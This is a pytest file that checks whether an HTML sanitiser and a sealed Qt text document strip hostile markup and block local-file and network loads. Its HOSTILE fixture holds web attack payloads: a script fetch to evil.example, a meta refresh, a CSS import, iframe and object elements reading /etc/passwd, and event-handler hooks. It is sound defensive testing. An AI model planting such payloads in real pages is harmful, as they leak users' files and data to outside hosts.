"""Hostile originals and articles reach neither files nor the network, and stay quick to show."""

import struct
import zlib

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QImage, QTextDocument
from PySide6.QtWidgets import QTextBrowser

from pressmark.gui.sanitise import safe_page, too_heavy
from pressmark.gui.sealed_document import SealedDocument, sealed_resource
from pressmark.model.views import OriginalPage

HOSTILE = """
<html><head><meta http-equiv="refresh" content="0; url=http://evil.example/">
<link rel="stylesheet" href="file:///etc/passwd"><script>fetch('http://evil.example')</script>
<style>@import url(http://evil.example/a.css)</style><base href="file:///"></head>
<body onload="steal()"><iframe src="file:///etc/passwd"></iframe>
<img src="http://evil.example/pixel.png"><img src="file:///{path}"><img src="{path}">
<img src="pixel.png"><object data="file:///etc/passwd"></object>
<a href="javascript:steal()">link</a><p onclick="steal()">Readable text.</p></body></html>
"""


def png(path=None) -> bytes:
    """A 3 by 3 picture."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\0" + b"\xff\0\0" * 3 for _ in range(3))
    header = struct.pack(">IIBBBBB", 3, 3, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))
    data += chunk(b"IEND", b"")
    if path is not None:
        path.write_bytes(data)
    return data


def test_only_text_and_saved_pictures_survive(tmp_path):
    picture = tmp_path / "secret.png"
    png(picture)
    html = HOSTILE.replace("{path}", str(picture))
    safe = safe_page(OriginalPage(html=html, resources={"pixel.png": ("image/png", png())}))
    for word in ("script", "iframe", "evil.example", "onload", "onclick", "javascript", "file:",
                 "passwd", str(picture), "object", "refresh"):  # fmt: skip
        assert word not in safe.html
    assert "Readable text." in safe.html
    assert list(safe.resources.values()) == [png()]
    assert 'src="pressmark:image/0"' in safe.html


def test_a_saved_picture_is_drawn_and_a_file_is_not(qapp, tmp_path):
    picture = tmp_path / "secret.png"
    png(picture)
    kind = QTextDocument.ResourceType.ImageResource
    document = SealedDocument({"pressmark:image/0": png()})
    assert document.resource(kind, QUrl("pressmark:image/0")).width() == 3
    for address in (picture.as_uri(), str(picture), "http://evil.example/a.png", "../a.png"):
        image = document.resource(kind, QUrl(address))
        assert isinstance(image, QImage)
        assert image.width() == 1


@pytest.mark.parametrize("kind", list(QTextDocument.ResourceType)[:4])
def test_no_resource_is_ever_null(qapp, kind):
    answer = sealed_resource(kind.value, QUrl("file:///etc/passwd"), {})
    assert answer is not None
    assert not (isinstance(answer, QImage) and answer.isNull())


def test_a_local_picture_is_not_laid_out(qapp, qtbot, tmp_path):
    picture = tmp_path / "wide.png"
    QImage(900, 40, QImage.Format.Format_RGB32).save(str(picture))
    browser = QTextBrowser()
    qtbot.addWidget(browser)
    document = SealedDocument(parent=browser)
    document.setHtml(f'<img src="{picture}"><img src="{picture.as_uri()}">')
    browser.setDocument(document)
    browser.show()
    qapp.processEvents()
    assert document.idealWidth() < 200


def test_fifty_megabytes_of_nested_tags_become_text():
    assert too_heavy("<div>" * 10_000_000)
    safe = safe_page(OriginalPage(html="<div>" * 500 + "deep words" + "</div>" * 500))
    assert safe.html == ""
    assert "deep words" in safe.text


def test_an_ordinary_page_is_shown_as_a_page():
    assert not too_heavy("<html><body>" + "<p>word<br><img src=x></p>" * 500 + "</body></html>")
